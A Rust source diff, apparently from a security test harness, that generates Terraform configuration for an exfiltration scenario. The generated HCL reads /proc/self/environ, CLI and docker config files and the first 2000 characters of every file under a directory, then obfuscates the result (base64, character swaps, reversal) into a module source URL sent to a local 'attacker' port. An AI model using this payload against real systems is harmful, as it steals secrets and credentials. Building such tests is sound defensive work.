@@ -6,6 +6,7 @@
 
 use std::os::linux::net::SocketAddrExt as _;
 use std::os::unix::net::{SocketAddr, UnixListener};
+use std::path::Path;
 
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
@@ -114,24 +115,35 @@ loot | tell later
     )
 }
 
-/// A1: by what the environment says, and by the path that only a program could have told.
+/// The beginning of every file that can be found below a directory.
+pub(super) fn listing(directory: &Path) -> String {
+    let directory = directory.display();
+    format!(
+        "join(\"\\n\", [for name in try(fileset(\"{directory}\", \"**\"), []) : join(\" \", [name, substr(try(file(join(\"/\", \
+         [\"{directory}\", name])), \"none\"), 0, 2000)])])"
+    )
+}
+
+/// A module whose source takes loot along.
+pub(super) fn module(port: u16, name: &str, loot: &str) -> String {
+    let turned = format!("strrev(replace(replace(base64encode({loot}), \"+\", \"-\"), \"/\", \"_\"))");
+    format!("module \"{name}\" {{\n  source = \"http://127.0.0.1:{port}/{name}.zip?loot=${{{turned}}}\"\n}}\n")
+}
+
+/// A1: by what the environment says, by what can be listed where secrets are, and by the path that only a program could have told.
 fn expressions(stage: &Stage) -> String {
-    let (port, memory) = (stage.attacker.port, stage.memory.path().display());
+    let (port, listed) = (stage.attacker.port, listing(stage.memory.path()));
     let docker = |cli: &str| {
         format!("try(file(regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", {cli})[0]), \"none\")")
     };
-    let module = |name: &str, loot: &str| {
-        let turned = format!("strrev(replace(replace(base64encode({loot}), \"+\", \"-\"), \"/\", \"_\"))");
-        format!("module \"{name}\" {{\n  source = \"http://127.0.0.1:{port}/{name}.zip?loot=${{{turned}}}\"\n}}\n")
-    };
     format!(
         "locals {{\n  environ = try(file(\"/proc/self/environ\"), \"none\")\n  found = try(regex(\"TF_CLI_CONFIG_FILE=([^\\\\x00]+)\", \
-         local.environ)[0], \"/none\")\n  listed = try(join(\",\", fileset(\"{memory}\", \"**\")), \"none\")\n  cli_found = \
+         local.environ)[0], \"/none\")\n  listed = {listed}\n  cli_found = \
          try(file(local.found), \"none\")\n  cli_told = try(file(local.told), \"none\")\n  by_environment = {}\n  by_path = {}\n}}\n{}{}",
         docker("local.cli_found"),
         docker("local.cli_told"),
-        module("unknown", "join(\"\\n\", [local.by_environment, local.listed, local.environ])"),
-        module("known", "join(\"\\n\", [local.by_path, local.cli_told])"),
+        module(port, "unknown", "join(\"\\n\", [local.by_environment, local.listed, local.environ])"),
+        module(port, "known", "join(\"\\n\", [local.by_path, local.cli_told])"),
     )
 }
 
